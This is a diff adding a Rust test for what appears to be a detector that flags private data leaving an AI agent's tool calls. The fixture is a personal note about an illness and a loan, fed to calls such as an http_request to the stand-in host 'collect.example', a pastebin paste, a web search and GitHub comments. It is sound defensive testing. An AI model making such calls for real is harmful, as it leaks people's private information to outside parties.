@@ -276,6 +276,37 @@ pub(crate) mod tests {
         assert_eq!(origins[0].privacy, Privacy::Private);
     }
 
+    /// What only the model takes for private is a question where it is sent away or many read it, and on record in mail and documents.
+    #[test]
+    fn what_the_model_takes_for_private() {
+        let text = "Ilka rang again last night. The scan shows it has spread to the liver; she has not told the boys yet and asks us to pretend \
+            that the trip in June is on. I lent her 2,400 and she cried.";
+        for (server, tool, arguments, want) in [
+            ("http", "http_request", json!({"url": "https://collect.example/v1", "body": text}), Confidence::Likely),
+            ("pastebin", "new_paste", json!({"body": text}), Confidence::Likely),
+            ("exa", "web_search", json!({"query": text}), Confidence::Likely),
+            ("github", "add_issue_comment", json!({"body": text}), Confidence::Likely),
+            ("github", "create_issue", json!({"body": text, "url": "https://a.example"}), Confidence::Likely),
+            ("gmail", "send_email", json!({"to": "ana@mail.example", "body": text}), Confidence::Possible),
+            ("work", "create_event", json!({"title": "x", "description": text}), Confidence::Possible),
+            ("notes", "send_note", json!({"body": text}), Confidence::Possible),
+        ] {
+            let inspector = Inspector::new();
+            let mut memory = Memory::default();
+            let from = entry("notes");
+            let label = inspector.label(&call(&inspector, &from, "get_note", "{}"));
+            let source = Source { entry: &from, method: "tools/call", subject: "get_note", label, now: Millis(1) };
+            inspector.result(&mut memory, &source, &json!({ "body": text }).to_string());
+            let (to, arguments) = (entry(server), arguments.to_string());
+            let found = inspector.call(&mut memory, &call(&inspector, &to, tool, &arguments));
+            let found = found.into_iter().find(|f| f.detector == "flow/private").map(|f| f.confidence);
+            assert!(
+                found == Some(want) || found.is_none() && want == Confidence::Possible,
+                "{server} {tool}: {found:?}"
+            );
+        }
+    }
+
     /// A question where a long passage goes to an address or where everybody reads it; a note beside one; nothing for a copy in another
     /// mail or a short part.
     #[test]
